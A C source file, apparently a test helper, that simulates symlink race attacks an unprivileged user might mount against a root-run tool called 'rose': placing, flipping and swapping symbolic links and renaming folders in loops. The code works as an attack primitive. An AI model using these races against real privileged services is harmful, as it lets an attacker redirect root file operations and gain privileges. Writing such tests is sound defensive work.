/* Attacks that a node's user may try while rose works as root in the node's folder. Runs until the attack has
 * succeeded, or until it is killed. Started by root, it continues as the user 65534.
 *   hostile place TARGET LINK...    each LINK becomes a symbolic link to TARGET as soon as its folder exists
 *   hostile flip TARGET NAME...     each NAME alternates between itself and a link to TARGET, without end
 *   hostile swap TARGET FOLDER      FOLDER becomes a link to TARGET when a file system was just unmounted from it
 *   hostile rename A B              the folder A is renamed to B and back, without end */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char path[4096];
static const char *aside(const char *name) {
  snprintf(path, sizeof path, "%s.aside", name);
  return path;
}

static int is_mounted(const char *folder) {
  char line[4096];
  FILE *mounts = fopen("/proc/self/mounts", "r");
  int found = 0;
  while (mounts && fgets(line, sizeof line, mounts)) found = found || strstr(line, folder) != NULL;
  if (mounts) fclose(mounts);
  return found;
}

int main(int argc, char **argv) {
  if (argc < 4 || setgid(65534) || setuid(65534)) return 2;
  if (!strcmp(argv[1], "place")) {
    for (int left = argc - 3; left > 0;)
      for (int i = 3; i < argc; ++i)
        if (argv[i] && symlink(argv[2], argv[i]) == 0) {
          printf("placed %s\n", argv[i]);
          fflush(stdout);
          argv[i] = NULL;
          --left;
        }
    return 0;
  }
  if (!strcmp(argv[1], "flip"))
    for (;;)
      for (int i = 3; i < argc; ++i) {
        struct stat info;
        if (lstat(argv[i], &info) == 0 && !S_ISLNK(info.st_mode) && rename(argv[i], aside(argv[i])) == 0) {
          (void)!symlink(argv[2], argv[i]);
        } else if (lstat(aside(argv[i]), &info) == 0) {
          unlink(argv[i]);
          rename(aside(argv[i]), argv[i]);
        }
      }
  if (!strcmp(argv[1], "swap")) {
    while (!is_mounted(argv[3])) usleep(1000);
    while (rename(argv[3], aside(argv[3])) != 0);
    (void)!symlink(argv[2], argv[3]);
    printf("swapped %s\n", argv[3]);
    return 0;
  }
  if (!strcmp(argv[1], "rename"))
    for (;;) {
      rename(argv[2], argv[3]);
      rename(argv[3], argv[2]);
    }
  return 2;
}
